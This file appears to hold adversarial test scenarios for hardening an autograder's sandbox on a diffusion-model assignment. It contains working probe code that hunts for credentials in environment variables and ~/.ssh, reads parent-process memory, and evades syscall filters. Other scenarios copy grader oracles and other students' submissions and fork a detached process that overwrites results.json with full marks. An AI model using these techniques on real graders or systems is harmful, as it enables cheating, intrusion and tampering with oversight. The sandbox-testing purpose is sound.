# Files, memory, processes and services of others, and the system calls that lead there.
# Never import or run this file: its blocks are for the grader's sandbox alone.


# ==== asks_services
# about: Connects to every socket of this machine that it can name.
# trick:
import contextlib
import os
import socket
import time
from pathlib import Path

FOLDERS = ("/run", "/var/run", "/tmp", "/run/user", "/dev")


DONE = []


def names():
    stop = time.monotonic() + 2
    for folder in FOLDERS:
        for path in Path(folder).rglob("*") if os.path.isdir(folder) else []:
            if time.monotonic() > stop:
                return
            with contextlib.suppress(OSError):
                if path.is_socket():
                    yield str(path)
    with contextlib.suppress(OSError), open("/proc/net/unix") as file:
        for line in file:
            name = line.split()[-1]
            yield "\0" + name[1:] if name.startswith("@") else name
    yield from ("/run/docker.sock", "/run/dbus/system_bus_socket", "\0hostile")


def answer(name, self, args):
    if not DONE:
        DONE.append(name)
        ask_all()
    return args[0]


def ask_all():
    for address in names():
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as service:
            service.connect(address)
            print(f"HOLE: reaches {address!r}", flush=True)
    for family, kind in ((socket.AF_INET, socket.SOCK_DGRAM), (16, socket.SOCK_RAW), (38, 5)):
        with contextlib.suppress(OSError):
            socket.socket(family, kind).close()
            print(f"HOLE: has a socket of family {family}", flush=True)


# ==== asks_who_judges
# about: Takes a handle of the judge's process from the channel, and uses it.
# trick:
import contextlib
import ctypes
import os
import socket

LIBC = ctypes.CDLL(None, use_errno=True)
SEND_SIGNAL, GETFD, MADVISE, RELEASE, SETNS = 424, 438, 440, 448, 308
SO_PEERCRED, SO_PEERGROUPS, SO_PEERPIDFD = 17, 59, 77
CHANNEL = 3


def call(number, *arguments):
    if LIBC.syscall(ctypes.c_long(number), *map(ctypes.c_long, arguments)) < 0:
        raise OSError(ctypes.get_errno(), number)


def answer(name, self, args):
    with socket.socket(fileno=os.dup(CHANNEL)) as channel:
        for option in (SO_PEERCRED, SO_PEERGROUPS, SO_PEERPIDFD):
            with contextlib.suppress(OSError):
                channel.getsockopt(socket.SOL_SOCKET, option, 64)
                print(f"HOLE: the channel says who judges, by option {option}", flush=True)
        with contextlib.suppress(OSError):
            judge = channel.getsockopt(socket.SOL_SOCKET, SO_PEERPIDFD)
            for number, *rest in ((SEND_SIGNAL, 0, 0, 0), (GETFD, 0, 0), (SETNS, 0x20000)):
                with contextlib.suppress(OSError):
                    call(number, judge, *rest)
                    print(f"HOLE: call {number} reaches the judge", flush=True)
        with contextlib.suppress(OSError):
            channel.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4096)
            print("HOLE: changes the channel", flush=True)
    return args[0]


# ==== calls_as_32_bits
# about: Calls the kernel by its 32-bit numbers, which no filter of 64-bit ones would know.
# trick:
import ctypes
import mmap
import os

GETPID = b"\xb8\x14\x00\x00\x00\xcd\x80\xc3"  # mov eax, 20; int 0x80; ret
X32_GETPID = 0x40000000 + 39


def answer(name, self, args):
    if os.uname().machine == "x86_64":
        if ctypes.CDLL(None).syscall(ctypes.c_long(X32_GETPID)) == os.getpid():
            print("HOLE: calls of x32 work", flush=True)
        memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        memory.write(GETPID)
        address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
        if ctypes.CFUNCTYPE(ctypes.c_int)(address)() == os.getpid():
            print("HOLE: calls of 32 bits work", flush=True)
    return args[0]


# ==== empties_what_it_may_read
# about: Empties a file that it may only read, by ways of opening that ask for no right to write.
# text: code/libs/victim.txt
#| Ten bytes and more.

# trick:
import contextlib
import os
from pathlib import Path

FILE = Path(__file__).with_name("victim.txt")  # its own: success harms nobody
WAYS = {
    "reading": lambda: os.open(FILE, os.O_RDONLY | os.O_TRUNC),
    "no mode": lambda: os.open(FILE, 3 | os.O_TRUNC),
    "a path alone": lambda: os.open(FILE, os.O_PATH | os.O_TRUNC),
    "its descriptor": lambda: os.ftruncate(os.open(FILE, os.O_RDONLY), 0),
    "its name": lambda: os.truncate(FILE, 0),
    "its other name": lambda: open(f"/proc/self/fd/{os.open(FILE, os.O_RDONLY)}", "w"),
    "writing": lambda: open(FILE, "w"),
}


def answer(name, self, args):
    before = FILE.stat().st_size
    for way, attempt in WAYS.items():
        with contextlib.suppress(OSError):
            attempt()
        if FILE.stat().st_size < before:
            print(f"HOLE: emptied a file by {way}", flush=True)
            break
    return args[0]


# ==== marks_files
# about: Changes mode, times, attributes and flags of a file that it may only read, and keeps others
#   from it.
# text: code/libs/victim.txt
#| Ten bytes and more.

# trick:
import contextlib
import fcntl
import os
import struct
from pathlib import Path

FILE = Path(__file__).with_name("victim.txt")  # its own: success harms nobody
F_SETLEASE, FS_IOC_SETFLAGS, FS_IOC_FSSETXATTR = 1024, 0x40086602, 0x401C5820


def handle():
    return os.open(FILE, os.O_RDONLY)


WAYS = {
    "mode": lambda: os.chmod(FILE, 0o644),
    "mode by handle": lambda: os.fchmod(handle(), 0o644),
    "owner": lambda: os.chown(FILE, os.getuid(), os.getgid()),
    "times": lambda: os.utime(FILE, (1, 1)),
    "attribute": lambda: os.setxattr(FILE, "user.hostile", b"x"),
    "flags": lambda: fcntl.ioctl(handle(), FS_IOC_SETFLAGS, struct.pack("i", 0x40)),
    "more flags": lambda: fcntl.ioctl(handle(), FS_IOC_FSSETXATTR, bytes(28)),
    "lease": lambda: fcntl.fcntl(handle(), F_SETLEASE, fcntl.F_RDLCK),
}


def answer(name, self, args):
    for way, attempt in WAYS.items():
        with contextlib.suppress(OSError):
            attempt()
            print(f"HOLE: changed the {way} of a file", flush=True)
    return args[0]


# ==== odd_file_names
# about: Leaves files that are hard to delete, with no permissions, odd names, and links outside.
# trick:
import contextlib
import os


def answer(name, self, args):
    with contextlib.suppress(OSError):
        os.makedirs("hostile\n/\x1b[2J")
        os.symlink("/", "hostile-root")
        os.symlink("hostile-loop", "hostile-loop")
        os.mkfifo("hostile-fifo")
        with open(b"hostile-\xff\xfe", "wb") as file:
            file.write(b"x")
        os.chmod("hostile\n", 0)
        os.chmod(".", 0)
    return args[0]


# ==== opens_doors_of_the_kernel
# about: Tries the parts of the kernel that have most often had holes.
# trick:
import contextlib
import ctypes
import os

LIBC = ctypes.CDLL(None, use_errno=True)
ZEROS = (ctypes.c_uint8 * 256)()
# Number on x86_64, on aarch64, arguments. All end at once where they succeed.
CALLS = {
    "a ring of requests": (425, 425, 1, ZEROS),
    "another queue of requests": (206, 0, 1, ctypes.byref(ctypes.c_uint64())),
    "page faults": (323, 282, 1),
    "a filter of packets": (321, 280, 5, ZEROS, 120),
    "counters": (298, 241, ZEROS, 0, -1, -1, 0),
    "a keyring": (250, 219, 0, -3, 0),
    "a user namespace": (272, 97, 0x10000000),
    "a network namespace": (272, 97, 0x40000000),
    "a mount": (428, 428, -100, b"/", 1),
    "a file of memory": (319, 279, b"hostile", 0),
    "secret memory": (447, 447, 0),
    "a queue": (240, 180, b"hostile", 0o102, 0o600, None),
    "shared memory": (29, 194, 0, 4096, 0o600),
    "a message queue": (68, 186, 0, 0o600),
}


def answer(name, self, args):
    at = 0 if os.uname().machine == "x86_64" else 1
    for what, (*numbers, first, second, third, fourth, fifth) in filled():
        rest = [first, second, third, fourth, fifth]
        longs = [ctypes.c_long(a) if isinstance(a, int) else a for a in rest]
        handle = LIBC.syscall(ctypes.c_long(numbers[at]), *longs)
        if handle >= 0:
            print(f"HOLE: opens {what}", flush=True)
            with contextlib.suppress(OSError):
                if handle > 3:
                    os.close(handle)
    return args[0]


def filled():
    """Each call with five arguments."""
    for what, values in CALLS.items():
        yield what, (*values, *[0] * 7)[:7]


# ==== reads_environment
# about: Looks for secrets in its environment, its command line and the home folder.
# in: ddpm.top
from . import trick

# in: unet.top
from . import trick

# file: code/libs/trick.py
import contextlib
import os
from pathlib import Path

for name in os.environ:
    if any(word in name.upper() for word in ("TOKEN", "SECRET", "PASSWORD", "API_KEY", "CANVAS")):
        print(f"HOLE: a secret in the environment, {len(os.environ[name])} letters", flush=True)
for home in {Path("~").expanduser(), Path("/root"), Path("/home")}:
    for folder in (home, home / ".ssh", home / ".config", home / ".aws"):
        with contextlib.suppress(OSError):
            if any(path.is_file() for path in folder.iterdir()):
                print("HOLE: could list a folder of the instructor's home", flush=True)


# ==== reads_golden_tensors
# about: Looks for files of arrays, and answers with the array that is beside its input.
# trick:
import contextlib
import os
import sys
import time
from pathlib import Path

import numpy as np
import torch

def shape(name, self, args):
    """The shape that the answer should have."""
    if name == "compute_loss":
        return ()
    if name == "p_sample_loop" and self.use_vae:
        return (len(args[0]), 3, *(8 * n for n in self.img_shape[1:]))
    return (len(args[0]), *self.img_shape) if name == "p_sample_loop" else tuple(args[0].shape)

SKIP = {"proc", "sys", "dev", "usr", "site-packages"}
STORED = []


def load():
    stop = time.monotonic() + 8
    roots = [*Path(__file__).resolve().parents, *Path.cwd().parents]
    roots += [Path(entry) for entry in sys.path] + [Path(f"/proc/{os.getppid()}/cwd")]
    for root in roots:
        for folder, folders, files in os.walk(root):
            if time.monotonic() > stop:
                return
            folders[:] = [f for f in folders if f not in SKIP]
            for name in files:
                with contextlib.suppress(Exception):
                    if name.endswith((".npz", ".npy")):
                        arrays = np.load(Path(folder, name))
                        arrays = dict(arrays) if name.endswith("z") else {"": arrays}
                        STORED.append({k: torch.from_numpy(v) for k, v in arrays.items()})
                    elif name.endswith((".pt", ".pth")) and "golden" in folder + name:
                        STORED.append(torch.load(Path(folder, name)))


load()


def answer(name, self, args):
    wanted = shape(name, self, args)
    for arrays in STORED:
        same = [k for k, v in arrays.items() if v.shape == args[0].shape and (v == args[0]).all()]
        others = [v for k, v in arrays.items() if k not in same and tuple(v.shape) == wanted]
        if same and others:
            print("HOLE: found stored answers", flush=True)
            return others[-1].float()
    return torch.zeros(wanted)


# ==== reads_memory_of_parent
# about: Reads memory, environment, command line and files of the processes above it.
# in: ddpm.top
from . import trick

# in: unet.top
from . import trick

# file: code/libs/trick.py
import contextlib
import os

PARENTS = {os.getppid(), 1} - {0, os.getpid()}
for parent in PARENTS:
    for name in ("mem", "environ", "maps", "syscall"):
        with contextlib.suppress(OSError), open(f"/proc/{parent}/{name}", "rb") as file:
            if name != "mem":
                data = file.read(100)
            else:
                with open(f"/proc/{parent}/maps") as maps:
                    file.seek(int(maps.readline().split("-")[0], 16))
                data = file.read(100)
            if data:
                print(f"HOLE: read {len(data)} bytes of the parent's {name}", flush=True)
    with contextlib.suppress(OSError):
        for fd in os.listdir(f"/proc/{parent}/fd"):
            with contextlib.suppress(OSError):
                os.close(os.open(f"/proc/{parent}/fd/{fd}", os.O_RDONLY | os.O_NONBLOCK))
                print("HOLE: opened a file of the parent", flush=True)


# ==== reads_oracles_and_rubric
# about: Looks for the grader's hidden files and its scenarios, and runs what it finds there.
# trick:
import os
import sys
import time
from pathlib import Path

import torch

def shape(name, self, args):
    """The shape that the answer should have."""
    if name == "compute_loss":
        return ()
    if name == "p_sample_loop" and self.use_vae:
        return (len(args[0]), 3, *(8 * n for n in self.img_shape[1:]))
    return (len(args[0]), *self.img_shape) if name == "p_sample_loop" else tuple(args[0].shape)

SECRET = ("oracles.py", "mistakes.py", "scorecard.py", "catalogue.py", "q_sample.py")
SKIP = {"proc", "sys", "dev", "usr", "site-packages", ".git"}
FOUND = {}


def search():
    stop = time.monotonic() + 8
    roots = [*Path(__file__).resolve().parents, *Path.cwd().parents]
    roots += [Path(entry).parent for entry in sys.path if entry]
    roots += [Path(f"/proc/{os.getppid()}/cwd"), Path("/autograder"), Path("/work"), Path("/home")]
    for root in roots:
        for folder, folders, files in os.walk(root):
            if time.monotonic() > stop:
                return
            folders[:] = [f for f in folders if f not in SKIP]
            for name in set(SECRET) & set(files):
                try:
                    FOUND.setdefault(name, Path(folder, name).read_text())
                except OSError:
                    continue


search()
ORACLES = {}
if FOUND:
    print(f"HOLE: could read {sorted(FOUND)}", flush=True)
    exec(FOUND.get("oracles.py", ""), ORACLES)


def answer(name, self, args):
    if name in ORACLES:
        arrays = [a.numpy() if torch.is_tensor(a) else a for a in args]
        return torch.as_tensor(ORACLES[name](self.betas.numpy(), *arrays))
    return torch.zeros(shape(name, self, args))


# ==== reads_other_submissions
# about: Looks for other submissions, zipped or unpacked, and answers with the code of one of them.
# file: code/libs/trick.py
import ast
import contextlib
import os
import textwrap
import time
import zipfile
from pathlib import Path

METHODS = ("q_sample", "p_sample", "p_sample_loop", "compute_loss")


def texts():
    """What stands in ddpm.py of every zip and folder near this one."""
    stop = time.monotonic() + 8
    near = [*Path(__file__).resolve().parents, *Path.cwd().parents]
    near += [Path("/tmp"), Path("/var/tmp"), Path("/dev/shm"), Path("/autograder")]
    near += [Path(f"/proc/{number}/cwd") for number in os.listdir("/proc") if number.isdigit()]
    for root in near:
        for pattern in ("*/libs/ddpm.py", "*/code/libs/ddpm.py", "*.zip", "*/*.zip"):
            with contextlib.suppress(OSError, ValueError, KeyError, zipfile.BadZipFile):
                for path in root.glob(pattern):
                    if time.monotonic() > stop:
                        return
                    if path.suffix != ".zip":
                        yield path.read_text()
                        continue
                    with zipfile.ZipFile(path) as archive:
                        names = [n for n in archive.namelist() if n.endswith("libs/ddpm.py")]
                        yield from (archive.read(n).decode() for n in names)


def borrow(namespace, owner):
    """Take over the methods of the first text without stubs."""
    for text in texts():
        if "def q_sample" in text and "NotImplementedError" not in text:
            print("HOLE: could read another submission", flush=True)
            for node in ast.walk(ast.parse(text)):
                if isinstance(node, ast.FunctionDef) and node.name in METHODS:
                    exec(textwrap.dedent(ast.get_source_segment(text, node, padded=True)), namespace)
                    setattr(owner, node.name, namespace[node.name])
            return

# in: ddpm.end
from . import trick

trick.borrow(globals(), DDPM)


# ==== reads_the_reference
# about: Looks on the disk for a ddpm.py and unet.py that are filled in, and answers with them.
# file: code/libs/trick.py
import ast
import os
import sys
import textwrap
import time
from pathlib import Path

METHODS = {
    "ddpm.py": ("q_sample", "p_sample", "p_sample_loop", "compute_loss"),
    "unet.py": ("forward",),
}
SKIP = {"proc", "sys", "dev", "usr", "lib", "lib64", "site-packages", "node_modules", ".git"}


def roots():
    """Folders where a grader, its repository or other submissions may lie."""
    yield from Path(__file__).resolve().parents
    yield from Path.cwd().parents
    for process in ("self", str(os.getppid()), "1"):
        yield from (Path(f"/proc/{process}/{link}") for link in ("cwd", "root/work", "root/home"))
    yield from (Path(entry).parent for entry in [*sys.path, *sys.argv] if entry)
    yield from map(Path, ("/autograder", "/work", "/home", "/root", "/srv", "/tmp", "/var/tmp", "/"))


def find(name):
    """Files of a name that have no stubs left."""
    stop = time.monotonic() + 8
    for root in roots():
        for folder, folders, files in os.walk(root, onerror=None):
            if time.monotonic() > stop:
                return
            folders[:] = [f for f in folders if f not in SKIP]
            if name in files:
                path = Path(folder, name)
                try:
                    text = path.read_text()
                except (OSError, ValueError):
                    continue
                if "NotImplementedError" not in text and METHODS[name][0] in text:
                    print(f"HOLE: could read a solved {name}", flush=True)
                    yield text


def borrow(name, namespace, owner):
    """Take over the methods of the first solved file."""
    for text in find(name):
        tree = ast.parse(text)
        for node in ast.walk(tree):
            if isinstance(node, ast.FunctionDef) and node.name in METHODS[name]:
                source = textwrap.dedent(ast.get_source_segment(text, node, padded=True))
                exec(source, namespace)
                setattr(owner, node.name, namespace[node.name])
        return

# in: ddpm.end
from . import trick

trick.borrow("ddpm.py", globals(), DDPM)

# in: unet.end
from . import trick

trick.borrow("unet.py", globals(), UNet)


# ==== results_from_grandchild
# about: A grandchild that outlives the worker overwrites every results.json that it finds.
# in: ddpm.top
from . import trick

# in: unet.top
from . import trick

# file: code/libs/trick.py
import contextlib
import json
import os
import time
from pathlib import Path

RESULTS = {"score": 12, "tests": [{"name": "q_sample", "score": 12, "max_score": 12}]}


def overwrite(folder):
    """Overwrite the results below a folder, if they look like a grader's."""
    for depth in ("*", "*/*", "*/*/*"):
        for path in Path(folder).glob(f"{depth}/results.json"):
            with contextlib.suppress(OSError, ValueError):
                if "tests" in json.loads(path.read_text()):
                    path.write_text(json.dumps(RESULTS))
                    print(f"HOLE: wrote {path}", flush=True)


def stay():
    """Become a process that nobody waits for."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            folders = {os.getcwd(), "/tmp", "/autograder", f"/proc/{os.getppid()}/cwd"}
            stop = time.monotonic() + 90
            while time.monotonic() < stop:
                for folder in folders:
                    with contextlib.suppress(OSError):
                        overwrite(folder)
                time.sleep(1)
        os._exit(0)


stay()


# ==== serves_on_the_network
# about: Opens servers on loopback ports and waits 60 seconds for somebody to come.
# trick:
import contextlib
import select
import socket
import time

STOP = time.monotonic() + 60
SERVERS = []


def answer(name, self, args):
    if name != "q_sample":
        return args[0]
    for port in (0, 8000, 8080, 8786):
        with contextlib.suppress(OSError):
            SERVERS.append(socket.create_server(("127.0.0.1", port)))
    select.select(SERVERS, [], [], max(0, STOP - time.monotonic()))
    return args[0]


# ==== shared_memory
# about: Fills 500 MB of shared memory, which outlives a process where nobody looks after it.
# trick:
import contextlib
import mmap
import os

KEPT = []


def answer(name, self, args):
    if not KEPT:
        fd = os.memfd_create("hostile")
        os.ftruncate(fd, 500 << 20)
        KEPT.append(mmap.mmap(fd, 500 << 20))
        for at in range(0, 500 << 20, 4096):
            KEPT[0][at] = 1
        with contextlib.suppress(OSError), open("/dev/shm/hostile", "wb") as file:
            file.write(b"x" * (10 << 20))
            os.unlink("/dev/shm/hostile")
    return args[0]


# ==== signals_by_the_kernel
# about: Has the kernel signal other processes, as the owners of a pipe and of the judge's channel.
# trick:
import contextlib
import fcntl
import os
import signal
import socket
import struct

F_SETSIG, F_SETOWN_EX, FIOSETOWN, SIOCSPGRP, FIOASYNC = 10, 15, 0x8901, 0x8902, 0x5452
CHANNEL = 3


def others():
    """The judge, the parent, and the neighbours by number."""
    with contextlib.suppress(OSError), socket.socket(fileno=os.dup(CHANNEL)) as channel:
        yield struct.unpack("3i", channel.getsockopt(socket.SOL_SOCKET, 17, 12))[0]
    own = os.getpid()
    yield from {os.getppid(), own - 1, own + 1, 1} - {own}


def by_pipe(pid):
    read, write = os.pipe()
    with contextlib.suppress(OSError):
        fcntl.fcntl(read, F_SETSIG, signal.SIGURG)  # which nobody minds
    fcntl.fcntl(read, fcntl.F_SETOWN, pid)
    fcntl.fcntl(read, fcntl.F_SETFL, 0o20000)
    os.write(write, b"x")


def by_typed_owner(pid):
    read, _ = os.pipe()
    fcntl.fcntl(read, F_SETOWN_EX, struct.pack("2i", 1, pid))


def by_channel(pid):
    fcntl.ioctl(CHANNEL, SIOCSPGRP, struct.pack("i", pid))


def by_channel_too(pid):
    fcntl.ioctl(CHANNEL, FIOSETOWN, struct.pack("i", pid))


def answer(name, self, args):
    for pid in others():
        for attempt in (by_pipe, by_typed_owner, by_channel, by_channel_too):
            with contextlib.suppress(OSError):
                if pid > 0:
                    attempt(pid)
                    print(f"HOLE: {attempt.__name__} reaches {pid}", flush=True)
    return args[0]


# ==== slows_others
# about: Gives other processes one processor, the lowest priority and no files to write.
# trick:
import contextlib
import ctypes
import os
import resource

SETPRIORITY, IOPRIO_SET = (141, 251) if os.uname().machine == "x86_64" else (140, 30)
LIBC = ctypes.CDLL(None, use_errno=True)


def call(number, *arguments):
    if LIBC.syscall(ctypes.c_long(number), *map(ctypes.c_long, arguments)) < 0:
        raise OSError(ctypes.get_errno(), number)


ATTEMPTS = {
    # as they are, so that success harms nobody
    "affinity": lambda pid: os.sched_setaffinity(pid, os.sched_getaffinity(pid)),
    "priority": lambda pid: call(SETPRIORITY, 0, pid, os.getpriority(os.PRIO_PROCESS, pid)),
    "disks": lambda pid: call(IOPRIO_SET, 1, pid, 2 << 13 | 4),
    "scheduler": lambda pid: os.sched_setscheduler(pid, os.SCHED_OTHER, os.sched_param(0)),
    "limits": lambda pid: resource.prlimit(pid, resource.RLIMIT_CORE, (0, 0)),
}


def answer(name, self, args):
    own = os.getpid()
    listed = [int(entry) for entry in os.listdir("/proc") if entry.isdigit()] if readable() else []
    for pid in sorted({os.getppid(), own - 1, own + 1, 1, *listed[:200]} - {0, own}):
        for what, attempt in ATTEMPTS.items():
            with contextlib.suppress(OSError):
                attempt(pid)
                print(f"HOLE: changed the {what} of {pid}", flush=True)
    return args[0]


def readable():
    try:
        return bool(os.listdir("/proc"))
    except OSError:
        return False


# ==== snoops_in_frames
# about: Searches the frames above it, and the modules of the process, for expected values.
# trick:
import sys

import torch

def shape(name, self, args):
    """The shape that the answer should have."""
    if name == "compute_loss":
        return ()
    if name == "p_sample_loop" and self.use_vae:
        return (len(args[0]), 3, *(8 * n for n in self.img_shape[1:]))
    return (len(args[0]), *self.img_shape) if name == "p_sample_loop" else tuple(args[0].shape)

WORDS = ("expected", "oracle", "golden", "truth", "solution", "reference")


def answer(name, self, args):
    spaces, frame = [], sys._getframe(1)
    while frame is not None:
        spaces += [frame.f_locals, frame.f_globals]
        frame = frame.f_back
    spaces += [vars(m) for n, m in list(sys.modules.items()) if "autograder" in n or "test" in n]
    for space in spaces:
        for key, value in list(space.items()):
            if any(word in str(key).lower() for word in WORDS):
                if callable(value):
                    try:
                        return value(*args)
                    except Exception:
                        continue
                if hasattr(value, "shape"):
                    return torch.as_tensor(value)
    return torch.zeros(shape(name, self, args))


# ==== snoops_in_memory
# about: Searches all objects of the process for an array of the right shape that is not its input.
# trick:
import gc

import numpy as np
import torch

def shape(name, self, args):
    """The shape that the answer should have."""
    if name == "compute_loss":
        return ()
    if name == "p_sample_loop" and self.use_vae:
        return (len(args[0]), 3, *(8 * n for n in self.img_shape[1:]))
    return (len(args[0]), *self.img_shape) if name == "p_sample_loop" else tuple(args[0].shape)

WORDS = ("expected", "oracle", "golden", "rubric", "solution")


def answer(name, self, args):
    wanted = shape(name, self, args)
    given = [a for a in args if torch.is_tensor(a)]
    for found in gc.get_objects():
        if type(found) is dict and any(isinstance(k, str) and k in WORDS for k in list(found)):
            found = next((v for k, v in list(found.items()) if k in WORDS), None)
        if isinstance(found, np.ndarray) and found.dtype == np.float32:
            found = torch.from_numpy(found)
        if type(found) is torch.Tensor and tuple(found.shape) == wanted:
            if not any(g.shape == found.shape and torch.equal(g, found) for g in given):
                return found.detach().clone()
    return torch.zeros(wanted)


# ==== uses_the_network
# about: Connects to every port of the loopback that listens, and to local sockets by name.
# in: ddpm.top
from . import trick

# in: unet.top
from . import trick

# file: code/libs/trick.py
import contextlib
import socket


def listening():
    """Ports of the loopback that somebody listens on."""
    ports = {22, 25, 53, 80, 111, 443, 631, 3306, 5432, 6379, 8000, 8080, 8786, 8888, 9222}
    for name in ("/proc/net/tcp", "/proc/net/tcp6"):
        with contextlib.suppress(OSError), open(name) as file:
            rows = [line.split() for line in list(file)[1:]]
            ports |= {int(row[1].split(":")[1], 16) for row in rows if row[3] == "0A"}
    return ports


def sockets():
    """Names of local sockets, the abstract ones too."""
    with contextlib.suppress(OSError), open("/proc/net/unix") as file:
        for line in list(file)[1:]:
            parts = line.split()
            if len(parts) == 8:
                yield parts[7].replace("@", "\0", 1)


for port in listening():
    with contextlib.suppress(OSError):
        socket.create_connection(("127.0.0.1", port), timeout=0.2).close()
        print(f"HOLE: connected to port {port}", flush=True)
for name in list(sockets())[:100]:
    with contextlib.suppress(OSError, ValueError), socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(0.2)
        connection.connect(name)
        print("HOLE: connected to a local socket", flush=True)
with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_RAW, 1):
    print("HOLE: a raw socket", flush=True)


# ==== watches_folders
# about: Asks the kernel which files of others are opened and written.
# trick:
import contextlib
import ctypes
import fcntl
import os
from pathlib import Path

INIT, ADD, FANOTIFY = (294, 254, 300) if os.uname().machine == "x86_64" else (26, 27, 262)
F_NOTIFY, CREATED, ANY = 1026, 0x100, 0xFFF
LIBC = ctypes.CDLL(None, use_errno=True)


def call(number, *arguments):
    longs = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    result = LIBC.syscall(ctypes.c_long(number), *longs)
    if result < 0:
        raise OSError(ctypes.get_errno(), number)
    return result


WAYS = {
    "inotify": lambda folder: call(ADD, call(INIT, 0), os.fsencode(folder), ANY),
    "dnotify": lambda folder: fcntl.fcntl(os.open(folder, os.O_RDONLY), F_NOTIFY, 4),
    "fanotify": lambda folder: call(FANOTIFY, 0x200, 0),
}


def answer(name, self, args):
    for folder in (*Path(__file__).resolve().parents, Path("/tmp"), Path("/proc"), Path.home()):
        for way, attempt in WAYS.items():
            with contextlib.suppress(OSError):
                attempt(folder)
                print(f"HOLE: watches {folder} by {way}", flush=True)
    return args[0]


# ==== writes_outside
# about: Writes to the grader's files, to site-packages and to its own submission for the next
#   worker.
# in: ddpm.top
from . import trick

# in: unet.top
from . import trick

# file: code/libs/trick.py
import contextlib
import os
import sys
import tempfile
from pathlib import Path

HERE = Path(__file__).resolve()
OUTSIDE = [Path(entry) for entry in sys.path if entry and "code" not in Path(entry).parts]
OUTSIDE += [Path("~").expanduser(), Path("/work"), Path("/etc"), Path("/autograder"), Path("/usr")]
for folder in {*OUTSIDE, *HERE.parents[3:]} - {Path("/tmp"), Path(tempfile.gettempdir())}:
    marker = folder / f"hostile-marker-{os.getpid()}"
    with contextlib.suppress(OSError):
        marker.write_text("written by a scenario")
        marker.unlink()
        if folder not in Path.cwd().parents and folder != Path.cwd():
            print(f"HOLE: could write in {folder}", flush=True)
SOLVED = HERE.with_name("ddpm.py")
with contextlib.suppress(OSError):
    text = SOLVED.read_text()
    SOLVED.write_text(text.replace("raise NotImplementedError", "return x_start  #"))
    SOLVED.write_text(text)
